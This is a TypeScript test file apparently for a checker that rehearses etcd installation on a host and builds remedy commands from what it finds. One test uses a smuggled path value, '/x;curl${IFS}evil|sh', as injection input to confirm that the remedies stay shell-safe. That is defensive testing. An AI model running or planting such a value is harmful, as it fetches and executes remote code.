import { expect, test } from 'vitest'
import { NOTHING_CHANGED } from '../errors.ts'
import ground from '../host/agent/ground.sh?raw'
import { cluster, goodFacts, node } from './machine.fixture.ts'
import { judgeRehearsal, sandboxOf, WRITTEN } from './rehearsal.ts'
import { type Finding, type FindingKind, readFindings, readRooms, readSecurity } from './rehearsal-facts.ts'

const judged = (changes: Parameters<typeof goodFacts>[0], spec = cluster()) =>
  judgeRehearsal(spec, node(1), goodFacts(changes))
const failures = (changes: Parameters<typeof goodFacts>[0]) =>
  judged(changes).filter(({ result }) => result === 'failure')
const found = (kind: FindingKind, path: string, said: string): { rehearsal: Finding[] } => ({
  rehearsal: [{ kind, path, said }],
})

test('where all can be done each check says so, and where nothing was rehearsed there is none', () => {
  expect(judged({}).map(({ id, result }) => `${result} ${id}`)).toEqual([
    'ok directories',
    'ok write',
    'ok account-files',
    'ok execute',
    'ok sandbox',
    'ok security-modules',
    'ok room',
  ])
  expect(judged({ rehearsal: undefined })).toEqual([])
})

test('a link names its target, and what to write into the cluster file instead', () => {
  const [check] = failures(found('link', '/opt/etcd', '/mnt/ssd/etcd'))
  expect(check).toMatchObject({
    id: 'directories',
    found: expect.stringMatching(/^\/opt\/etcd .* \/mnt\/ssd\/etcd$/),
    remedy: expect.stringContaining(
      'etcd.dataDirectory: /mnt/ssd/etcd/data, etcd.walDirectory: /mnt/ssd/etcd/wal',
    ),
  })
  const [data] = failures(found('link', '/opt/etcd/data', '/mnt/x'))
  expect(data?.remedy).toContain('(etcd.dataDirectory: /mnt/x)')
})

test('what a machine names becomes no command that a shell would read otherwise', () => {
  const evil = '/x;curl${IFS}evil|sh'
  const loose = `/opt is open; ${NOTHING_CHANGED}. Fix: chown root: ${evil} && chmod go-w ${evil}`
  const checks = [
    ...failures(found('link', '/opt/etcd', evil)),
    ...failures(found('ground', '/opt', loose)),
    ...failures({ rehearsal: [...readFindings(`write ${evil}\tRead-only file system`)] }),
    ...failures({ rooms: [{ mountedOn: evil, freeInodes: 1, freeBytes: 1 }] }),
  ]
  expect(checks).toHaveLength(4)
  for (const { remedy } of checks) {
    expect(remedy).toMatch(/./)
    expect(remedy).not.toContain('evil')
  }
})

test.each<[FindingKind, string, string, string, RegExp]>([
  ['blocked', '/opt/etcd', 'regular file', 'directories', /^move \/opt\/etcd away/],
  ['mount', '/opt/etcd/wal', 'a mount point', 'directories', /etcd\.walDirectory: \/opt\/etcd\/wal\/wal/],
  ['owner', '/opt', 'Operation not permitted', 'directories', /local disk/],
  ['acl', '/opt', 'setfacl is missing', 'directories', /setfacl -k \/opt/],
  ['reach', '/home', "can't cd to /home", 'directories', /namei -l \/home/],
  ['write', '/etc', "mkdir: cannot create '/etc/x': Read-only file system", 'write', /remount,rw/],
  ['write', '/etc', "mkdir: cannot create '/etc/x': No space left on device", 'write', /df -i \/etc/],
  ['write', '/etc', "mkdir: cannot create '/etc/x': Operation not permitted", 'write', /chattr -i \/etc/],
  [
    'account',
    '/etc/passwd',
    'sh: cannot open /etc/passwd: Read-only file system',
    'account-files',
    /remount,rw/,
  ],
  ['lock', '/etc/passwd.lock', 'it names no process', 'account-files', /rm \/etc\/passwd\.lock$/],
  ['execute', '/usr/local/bin', 'sh: /usr/local/bin/x: Permission denied', 'execute', /noexec/],
  ['sandbox', '226', 'Failed to set up mount namespacing', 'sandbox', /nesting/],
])('%s at %s (%s) is a failure of %s with a remedy', (kind, path, said, id, remedy) => {
  const checks = failures(found(kind, path, said))
  expect(checks).toMatchObject([{ id, remedy: expect.stringMatching(remedy) }])
})

test('what root refuses to work in carries its own fix', () => {
  const open = '/srv is open (user app, group app, mode 755)'
  const said = `${open}; ${NOTHING_CHANGED}. Fix: chown root: /srv && chmod go-w /srv`
  expect(failures(found('ground', '/srv', said))).toMatchObject([
    {
      found: open,
      remedy: expect.stringMatching(/^chown root: \/srv && chmod go-w \/srv; or set/),
    },
  ])
  expect(ground).toContain(`; ${NOTHING_CHANGED}. Fix: chown root: `)
})

test('one cause in several places is one failure', () => {
  const rehearsal = ['/etc', '/etc/ssl'].map((path): Finding => {
    return { kind: 'write', path, said: `mkdir: cannot create '${path}/x': Read-only file system` }
  })
  expect(failures({ rehearsal })).toMatchObject([{ found: expect.stringMatching(/^\/etc, \/etc\/ssl: /) }])
})

test('too few inodes stand in the way anywhere, too few bytes where the binaries go', () => {
  const room = { mountedOn: '/srv', freeBytes: 2 ** 20, freeInodes: 5000 }
  expect(failures({ rooms: [room] })).toEqual([])
  expect(failures({ rooms: [{ ...room, freeInodes: undefined }] })).toEqual([])
  expect(failures({ rooms: [{ ...room, freeInodes: 999 }] })).toMatchObject([{ id: 'room' }])
  expect(failures({ rooms: [{ ...room, mountedOn: '/' }] })).toMatchObject([{ id: 'room' }])
  expect(failures({ rooms: [{ ...room, mountedOn: '/usr' }] })).toMatchObject([{ id: 'room' }])
})

test('a property that an old systemd-run does not know is not a failure, and enforced SELinux is a warning', () => {
  expect(failures(found('sandbox', '1', 'Unknown assignment: ProcSubset=pid'))).toEqual([])
  const enforcing = judged({ security: { selinux: 'enforcing', apparmor: true } })
  expect(enforcing.find(({ id }) => id === 'security-modules')).toMatchObject({
    result: 'warning',
    found: 'SELinux enforcing, AppArmor',
  })
  expect(readSecurity('/sys/fs/selinux/enforce=1\n/sys/module/apparmor/parameters/enabled=N\n')).toEqual({
    selinux: 'enforcing',
    apparmor: false,
  })
})

test("the rehearsed unit has the sandbox of etcd's own, and nothing that makes it a member", () => {
  const properties = sandboxOf(cluster())
  expect(properties).toContain('ProtectSystem=strict')
  expect(properties).toContain('SystemCallFilter=~@privileged @resources')
  expect(properties.filter((one) => /^(?:Exec|Environment|User|Type|ReadWrite|RemoveIPC)/.test(one))).toEqual(
    [],
  )
  expect(WRITTEN).toContain('/usr/local/bin')
})

test('findings are read as they come, each once; unknown ones are left out', () => {
  const text = 'link /a\t/b c\nreach /x\tsh: 1: cd: no\nreach /x\tagain\nnonsense /y\tz\nno tab\n'
  expect(readFindings(text)).toEqual([
    { kind: 'link', path: '/a', said: '/b c' },
    { kind: 'reach', path: '/x', said: 'again' },
  ])
})

test("df's inodes and bytes; a filesystem that creates inodes on demand has no number of them", () => {
  const inodes = '/dev/sda1 100 40 60 40% /\n/dev/sdb1 0 0 0 - /data\ntmpfs - - - - /tmp\n'
  const bytes = '/dev/sda1 1000 400 600 40% /\n/dev/sda1 1000 400 600 40% /\n/dev/sdb1 9000 0 9000 0% /data\n'
  expect(readRooms(`${inodes}\n${bytes}`)).toEqual([
    { mountedOn: '/', freeBytes: 600, freeInodes: 60 },
    { mountedOn: '/data', freeBytes: 9000, freeInodes: undefined },
  ])
})
